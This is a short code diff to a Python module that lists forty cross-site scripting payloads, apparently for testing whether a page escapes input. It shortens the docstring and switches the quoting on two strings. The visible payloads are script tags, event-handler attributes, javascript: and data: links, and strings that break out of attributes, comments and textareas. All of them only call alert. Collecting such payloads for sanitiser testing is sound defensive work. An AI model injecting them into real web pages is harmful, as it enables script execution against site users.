@@ -1,4 +1,4 @@
-"""Forty texts that become script where a page is careless: tags, attributes, addresses, styles, templates, encodings."""
+"""Forty texts that become script where a page is careless."""
 
 from __future__ import annotations
 
@@ -27,9 +27,9 @@ PAYLOADS = (
     "<marquee onstart=alert(22)>x</marquee>",
     "<a href=javascript:alert(23)>press</a>",
     "<a href='data:text/html,<script>alert(24)</script>'>press</a>",
-    "\" onmouseover=alert(25) x=\"",
+    '" onmouseover=alert(25) x="',
     "' autofocus onfocus=alert(26) x='",
-    "\"><script>alert(27)</script>",
+    '"><script>alert(27)</script>',
     "'><img src=x onerror=alert(28)>",
     "--><script>alert(29)</script><!--",
     "</textarea><script>alert(30)</script>",
